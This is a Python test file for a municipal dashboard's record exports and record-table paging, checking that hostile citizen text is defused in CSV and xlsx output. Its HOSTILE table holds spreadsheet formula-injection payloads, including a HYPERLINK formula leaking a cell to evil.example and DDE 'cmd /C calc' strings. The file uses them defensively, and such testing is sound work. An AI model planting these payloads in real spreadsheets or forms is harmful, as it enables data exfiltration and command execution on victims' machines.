"""Record exports and record pages against hostile input: formulas in citizen text, absurd row windows, big exports.

Hostile rows are written into a copy of the loaded demo street's real release,
which the real app then serves through its real routes and callbacks; what
comes out is read back with openpyxl and the csv module.
"""

from __future__ import annotations

import csv
import io
import shutil
import stat
import time

import duckdb
import openpyxl
import pytest
from openpyxl.utils.escape import unescape

from cockpit.components.records import register_export_routes
from cockpit.data import Warehouse, current_warehouse, use_warehouse
from cockpit.metrics import compute, get_metric
from cockpit.metrics.records import fact_columns, record_query
from cockpit.settings import Settings, SettingsError
from cockpit.view import View
from tests.cockpit.dash_client import DashClient
from tests.fixtures.accounts import signed_client
from warehouse.paths import Home
from warehouse.releases import publish

# Text a spreadsheet would evaluate, as citizens (or attackers) type it, and what a safe CSV cell holds instead.
HOSTILE = {
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")': '\'=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
    "+86 投诉=1+1": "'+86 投诉=1+1",
    "-2+3+cmd|' /C notepad'!A0": "'-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 制表符开头": "'\t=1+1 制表符开头",
    "\r=1+1 回车开头": "'\r=1+1 回车开头",
    "http://evil.example/phish": "http://evil.example/phish",
    "小区门口垃圾=没人管": "小区门口垃圾=没人管",
}
NEGATIVE_HOURS = -2.5  # a negative number in a numeric column must stay a number
KPI = "tickets_received"
PERIOD = "this_year"


@pytest.fixture(scope="module")
def hostile_home(tmp_path_factory, loaded_demo) -> Home:
    """A copy of the demo release in which some tickets carry hostile titles and contents, published in a new home."""
    home = Home(tmp_path_factory.mktemp("hostile-home")).ensure()
    release = home.releases / "hostile.duckdb"
    shutil.copy(loaded_demo.release, release)
    # the first tickets of the export made below, found by the record query the app runs
    with duckdb.connect(str(release), read_only=True) as con:
        data_through = con.execute("SELECT data_through FROM meta_release").fetchone()[0]
        metric = get_metric(KPI)
        columns = [name for name, _ in fact_columns(con, metric.fact)]
        period = View.from_query({"period": PERIOD}, data_through).period
        query = record_query(metric, period, columns, limit=len(HOSTILE))
        ids = con.execute(query.rows_sql, query.params).fetchall()
    with duckdb.connect(str(release)) as con:
        for (ticket_id, *_), text in zip(ids, HOSTILE, strict=True):
            con.execute(
                "UPDATE fct_ticket SET title = ?, content = ?, accept_hours = ? WHERE ticket_id = ?",
                [text, text, NEGATIVE_HOURS, ticket_id],
            )
    publish(home, release)
    return home


@pytest.fixture
def served(app, hostile_home, tmp_path):
    """The real app serving the hostile release, with exports capped low so that jobs are cheap to test."""
    previous_warehouse, previous_jobs = current_warehouse(), app.server.config["COCKPIT_EXPORTS"]
    use_warehouse(Warehouse(hostile_home))
    jobs_home = tmp_path / "home"
    settings = Settings(home=jobs_home, export_direct_rows=10**6, export_max_rows=10**6)
    app.server.config["COCKPIT_EXPORTS"] = _jobs(settings)
    yield app
    use_warehouse(previous_warehouse)
    app.server.config["COCKPIT_EXPORTS"] = previous_jobs


def _jobs(settings: Settings):
    """The ExportJobs register_export_routes would set up for these settings (without adding routes twice)."""
    import flask

    scratch = flask.Flask("scratch")
    register_export_routes(scratch, settings)
    return scratch.config["COCKPIT_EXPORTS"]


def _export_query() -> str:
    return f"?kpi={KPI}&period={PERIOD}"


def _crlf(text) -> str:
    """Cell text as Excel shows it: xlsx escapes a carriage return (_x000D_), and XML may read it as a newline."""
    return unescape(str(text)).replace("\r", "\n")


def test_xlsx_export_writes_hostile_text_as_text_and_numbers_as_numbers(served):
    response = signed_client(served).get(f"/export/records.xlsx{_export_query()}")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.get_data())).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert not sheet._hyperlinks, "a string became a link"
    strings = {_crlf(cell.value) for cell in cells if cell.data_type == "s"}
    assert {_crlf(text) for text in HOSTILE} <= strings

    rows = [[cell for cell in row] for row in sheet.iter_rows()]
    names_at = next(i for i, row in enumerate(rows) if row[0].value == "工单编号")
    names = [cell.value for cell in rows[names_at]]
    title, hours = names.index("标题"), names.index("签收用时（小时）")
    hostile_rows = [row for row in rows[names_at + 1 :] if _crlf(row[title].value) in {_crlf(h) for h in HOSTILE}]
    assert len(hostile_rows) == len(HOSTILE)
    for row in hostile_rows:
        assert row[hours].data_type == "n" and row[hours].value == NEGATIVE_HOURS


def test_csv_export_defuses_formulas_quotes_text_and_leaves_numbers_bare(served):
    response = signed_client(served).get(f"/export/records.csv{_export_query()}")
    assert response.status_code == 200
    assert response.headers["Content-Type"].replace(" ", "").lower() == "text/csv;charset=utf-8"
    text = response.get_data().decode("utf-8-sig")
    # Read back as a spreadsheet would: quoted cells are text, bare cells must parse as numbers.
    rows = list(csv.reader(io.StringIO(text, newline=""), quoting=csv.QUOTE_NONNUMERIC))
    names_at = next(i for i, row in enumerate(rows) if row and row[0] == "工单编号")
    names = rows[names_at]
    title, content, hours = names.index("标题"), names.index("诉求内容"), names.index("签收用时（小时）")
    written = {row[title]: row for row in rows[names_at + 1 :]}
    for hostile, safe in HOSTILE.items():
        assert safe in written, f"{hostile!r} was not written as {safe!r}"
        assert written[safe][content] == safe
        assert written[safe][hours] == NEGATIVE_HOURS
    every_text = [cell for row in rows for cell in row if isinstance(cell, str)]
    assert not [cell for cell in every_text if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_filters_from_the_query_string_reach_the_header_as_text(served):
    client = signed_client(served)
    evil = '=HYPERLINK("http://evil.example","x")'
    query = {"kpi": KPI, "category": evil}
    sheet = openpyxl.load_workbook(io.BytesIO(client.get("/export/records.xlsx", query_string=query).get_data())).active
    header = [cell for row in sheet.iter_rows(max_row=8) for cell in row if cell.value is not None]
    assert [cell.coordinate for cell in header if cell.data_type == "f"] == []
    assert any(evil in str(cell.value) for cell in header)

    text = client.get("/export/records.csv", query_string=query).get_data().decode("utf-8-sig")
    filters_row = next(row for row in csv.reader(io.StringIO(text)) if row and row[0] == "# 筛选条件")
    assert not filters_row[1].startswith("=") and evil in filters_row[1]


def test_csv_export_streams_in_chunks(served):
    response = signed_client(served).get("/export/records.csv?kpi=sensor_data_quality_rate&period=this_year")
    assert response.status_code == 200 and response.is_streamed
    chunks = [chunk for chunk in response.response if chunk]
    lines = b"".join(chunks).decode("utf-8-sig").splitlines()
    assert len(lines) > 4_000, "the demo street should have enough sensor hours to need several batches"
    assert len(chunks) > 2


def test_an_export_over_the_direct_cap_is_refused_with_the_count_and_a_job_gives_the_file(served, tmp_path):
    client = signed_client(served)
    with current_warehouse().cursor() as cur:
        view = View.from_query({"period": "this_year"}, current_warehouse().info.data_through)
        total = int(compute(cur, KPI, view.period)["value"].iloc[0])
    assert total > 30
    served.server.config["COCKPIT_EXPORTS"] = _jobs(
        Settings(home=tmp_path / "capped", export_direct_rows=10, export_max_rows=30)
    )

    refused = client.get(f"/export/records.xlsx{_export_query()}")
    assert refused.status_code == 413
    message = refused.get_data(as_text=True)
    assert message.count("\n") == 1 and str(total) in message and "/export/jobs" in message

    assert client.post("/export/jobs", data={"kpi": KPI}).status_code == 415  # a form (cross-site) cannot start one
    started = client.post("/export/jobs", json={"kpi": KPI, "period": "this_year", "format": "xlsx"})
    assert started.status_code == 202
    job = started.get_json()
    state = client.get(job["status_url"]).get_json()
    for _ in range(600):
        if state["status"] in ("done", "failed"):
            break
        time.sleep(0.1)
        state = client.get(job["status_url"]).get_json()
    assert state["status"] == "done", state
    download = client.get(job["download_url"])
    assert download.status_code == 200 and "attachment" in download.headers["Content-Disposition"]
    rows = list(openpyxl.load_workbook(io.BytesIO(download.get_data())).active.iter_rows(values_only=True))
    names_at = next(i for i, row in enumerate(rows) if row[0] == "工单编号")
    assert len(rows) - names_at - 1 == 30
    assert any(f"30 / {total}" == row[1] for row in rows[:names_at])
    note = " ".join(str(row[1]) for row in rows[:names_at] if row[0] == "# 注意")
    assert "30" in note and str(total) in note

    directory = tmp_path / "capped" / "exports"
    assert stat.S_IMODE(directory.stat().st_mode) == 0o700
    files = list(directory.iterdir())
    assert files and all(stat.S_IMODE(path.stat().st_mode) == 0o600 for path in files)

    assert client.get("/export/jobs/" + "0" * 32).status_code == 404
    assert client.get("/export/jobs/not-a-job/file").status_code == 404
    assert client.post("/export/jobs", json={"kpi": "no_such_kpi"}).status_code == 400


def test_export_without_a_release_is_a_503_with_a_reason(app, tmp_path):
    previous = current_warehouse()
    use_warehouse(Warehouse(Home(tmp_path).ensure()))
    try:
        response = signed_client(app).get(f"/export/records.csv?kpi={KPI}")
    finally:
        use_warehouse(previous)
    assert response.status_code == 503
    assert response.get_data(as_text=True).count("\n") == 1 and "pipeline run" in response.get_data(as_text=True)


# ---- the record table's page cap ----------------------------------------------------------------------------

PAGE_CAP = 500  # the cap on the rows one record-table request may return


def _rows(client: DashClient, store: dict, request) -> dict:
    answer = client.update(
        "getRowsResponse",
        {"id": {"page": "dispatch", "type": "records"}, "property": "getRowsResponse"},
        [{"id": {"page": "dispatch", "type": "records"}, "property": "getRowsRequest", "value": request}],
        [{"id": {"page": "dispatch", "type": "view"}, "property": "data", "value": store}],
    )
    return next(iter(answer.values()))["getRowsResponse"]


@pytest.fixture(scope="module")
def sensor_store(app) -> dict:
    """The dispatch page's view store focused on a KPI with many more records than one page cap."""
    as_of = current_warehouse().info.data_through
    view = View.from_query({"period": "this_year", "kpi": "sensor_data_quality_rate"}, as_of)
    return {**view.to_dict(), "record_kpi": "sensor_data_quality_rate"}


def test_record_pages_are_capped_whatever_end_row_says(app, sensor_store):
    client = DashClient(app)
    # sorted by the fact's grain, so that two answers list rows in the same order
    grain = [{"colId": column, "sort": "asc"} for column in ("device_id", "metric", "hour")]
    first_page = _rows(client, sensor_store, {"startRow": 0, "endRow": 50, "sortModel": grain})
    assert first_page["rowCount"] > 2 * PAGE_CAP
    huge = _rows(client, sensor_store, {"startRow": 0, "endRow": 1e9, "sortModel": grain})
    assert len(huge["rowData"]) == PAGE_CAP and huge["rowCount"] == first_page["rowCount"]
    assert huge["rowData"][:50] == first_page["rowData"]


@pytest.mark.parametrize(
    "request_",
    [
        {"startRow": -5, "endRow": 10**12},
        {"startRow": "abc", "endRow": "def"},
        {"startRow": None, "endRow": None},
        {},
        {"startRow": 3.7, "endRow": "20"},
        {"startRow": True, "endRow": [1, 2]},
        {"startRow": 10**30, "endRow": 10**31},
        {"startRow": 0, "endRow": 5, "sortModel": "received_at"},
        {"startRow": 0, "endRow": 5, "filterModel": ["x"]},
        ["not", "a", "request"],
    ],
)
def test_a_made_up_row_window_gets_a_sane_answer_not_a_500(app, sensor_store, request_):
    answer = _rows(DashClient(app), sensor_store, request_)
    assert isinstance(answer["rowData"], list) and len(answer["rowData"]) <= PAGE_CAP


def test_a_made_up_view_store_gets_no_rows_not_a_500(app):
    answer = _rows(DashClient(app), {"record_kpi": "tickets_received", "start": "yesterday"}, {"startRow": 0})
    assert answer == {"rowData": [], "rowCount": 0}


@pytest.mark.parametrize(
    "environ",
    [
        {"COCKPIT_EXPORT_DIRECT_ROWS": "lots"},
        {"COCKPIT_EXPORT_DIRECT_ROWS": "0"},
        {"COCKPIT_EXPORT_DIRECT_ROWS": "2000", "COCKPIT_EXPORT_MAX_ROWS": "1000"},
        {"COCKPIT_EXPORT_MAX_ROWS": "2000000"},  # more than one Excel sheet holds
    ],
)
def test_export_caps_that_cannot_work_are_a_one_line_settings_error(tmp_path, environ):
    with pytest.raises(SettingsError, match="EXPORT") as error:
        Settings.load({"COCKPIT_HOME": str(tmp_path), **environ})
    assert "\n" not in str(error.value)


def test_export_caps_are_read_from_the_environment(tmp_path):
    settings = Settings.load(
        {"COCKPIT_HOME": str(tmp_path), "COCKPIT_EXPORT_DIRECT_ROWS": "20", "COCKPIT_EXPORT_MAX_ROWS": "300"}
    )
    assert (settings.export_direct_rows, settings.export_max_rows) == (20, 300)


def test_the_panels_background_export_button_starts_a_job_and_offers_the_file(served, tmp_path):
    served.server.config["COCKPIT_EXPORTS"] = _jobs(Settings(home=tmp_path / "ui", export_max_rows=40))
    client = DashClient(served)
    store = {
        **View.from_query({"period": PERIOD}, current_warehouse().info.data_through).to_dict(),
        "record_kpi": KPI,
    }
    ids = {kind: {"page": "dispatch", "type": kind} for kind in ("export-job", "export-job-notice", "export-job-poll")}
    outputs = [
        {"id": ids["export-job"], "property": "data"},
        {"id": ids["export-job-notice"], "property": "children"},
        {"id": ids["export-job-poll"], "property": "disabled"},
    ]

    def click_or_poll(trigger: str, job_id) -> dict:
        inputs = [
            {"id": {"page": "dispatch", "type": "export-job-start"}, "property": "n_clicks", "value": 1},
            {"id": ids["export-job-poll"], "property": "n_intervals", "value": 1},
        ]
        answer = client.update(
            "export-job-notice",
            outputs,
            inputs,
            [
                {"id": ids["export-job"], "property": "data", "value": job_id},
                {"id": {"page": "dispatch", "type": "view"}, "property": "data", "value": store},
            ],
            changed=[trigger],
        )
        return {key.split('"type":"')[1].split('"')[0]: next(iter(value.values())) for key, value in answer.items()}

    started = click_or_poll('{"page":"dispatch","type":"export-job-start"}.n_clicks', None)
    job_id = started["export-job"]
    assert isinstance(job_id, str)
    state = started
    for _ in range(600):
        if state["export-job-poll"] is True:
            break
        time.sleep(0.1)
        state = click_or_poll('{"page":"dispatch","type":"export-job-poll"}.n_intervals', job_id)
    assert state["export-job-poll"] is True, "polling should stop once the export is done"
    link = state["export-job-notice"]["props"]["href"]
    assert link == f"/export/jobs/{job_id}/file"
    download = signed_client(served).get(link)
    rows = list(openpyxl.load_workbook(io.BytesIO(download.get_data())).active.iter_rows(values_only=True))
    names_at = next(i for i, row in enumerate(rows) if row[0] == "工单编号")
    assert len(rows) - names_at - 1 == 40
